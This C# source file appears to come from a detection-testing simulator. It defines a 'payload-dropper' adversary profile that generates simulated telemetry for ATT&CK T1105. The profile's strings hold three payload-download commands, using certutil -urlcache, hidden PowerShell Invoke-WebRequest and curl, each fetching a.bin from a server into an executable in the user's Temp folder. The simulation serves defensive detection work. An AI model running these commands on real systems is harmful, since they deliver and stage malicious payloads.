using DetectionKit.Simulator.Scenarios;

namespace DetectionKit.Simulator.Adversaries;

/// <summary>A payload fetched from a rented server by a program of the system, and run.</summary>
public sealed class PayloadDropper : AdversaryProfile
{
    private const string System32 = @"\Device\HarddiskVolume3\Windows\System32\";

    /// <inheritdoc/>
    public override string Name => "payload-dropper";

    /// <inheritdoc/>
    public override string Defaults => "on each victim one download: certutil -urlcache, PowerShell's Invoke-WebRequest or curl, to a file that can be run";

    /// <inheritdoc/>
    public override Traffic Traffic { get; } = new(400, 750_000, 0.4, TimeSpan.FromSeconds(2));

    /// <inheritdoc/>
    public override string Source => "LOLBAS (certutil, curl), ATT&CK T1105; how the payload is fetched is an operator's choice";

    /// <inheritdoc/>
    public override IEnumerable<SimulatedEvent> Act(ActorContext context, Campaign campaign, DateTimeOffset begin)
    {
        ArgumentNullException.ThrowIfNull(context);
        ArgumentNullException.ThrowIfNull(campaign);
        var random = context.Random;
        var file = $@"C:\Users\{context.Host.Owner.Name}\AppData\Local\Temp\{random.Hex(6)}.exe";
        var host = campaign.Server.AddressFamily == System.Net.Sockets.AddressFamily.InterNetworkV6 ? $"[{campaign.Server}]" : campaign.Server.ToString();
        var (image, command) = random.Next(3) switch
        {
            0 => ("certutil.exe", $"certutil.exe -urlcache -split -f http://{host}/a.bin {file}"),
            1 => (@"WindowsPowerShell\v1.0\powershell.exe", $"powershell.exe -w hidden -Command \"Invoke-WebRequest http://{host}/a.bin -OutFile {file}\""),
            _ => ("curl.exe", $"curl.exe -s -o {file} http://{host}/a.bin"),
        };
        var process = context.LaunchWatched(begin, context.Host.Owner, System32 + image, command, "cmd.exe");
        yield return context.Report(process);
        var time = begin + TimeSpan.FromMilliseconds(random.Between(100, 800));
        yield return context.Connect(time, process, campaign.Server, 80);
        time += TimeSpan.FromMilliseconds(random.Between(500, 5_000));
        if (time < context.End) yield return context.CreateFile(time, process, file);
    }
}
